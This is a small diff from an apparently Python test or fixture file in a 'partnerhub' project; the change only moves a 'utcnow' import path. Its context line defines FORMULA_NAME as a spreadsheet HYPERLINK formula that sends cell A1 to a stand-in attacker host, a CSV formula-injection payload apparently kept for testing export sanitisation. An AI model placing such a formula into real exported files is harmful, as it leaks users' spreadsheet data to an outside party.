@@ -4,7 +4,7 @@ import csv
 import io
 from datetime import timedelta
 
-from partnerhub.db import utcnow
+from partnerhub.core.db import utcnow
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 
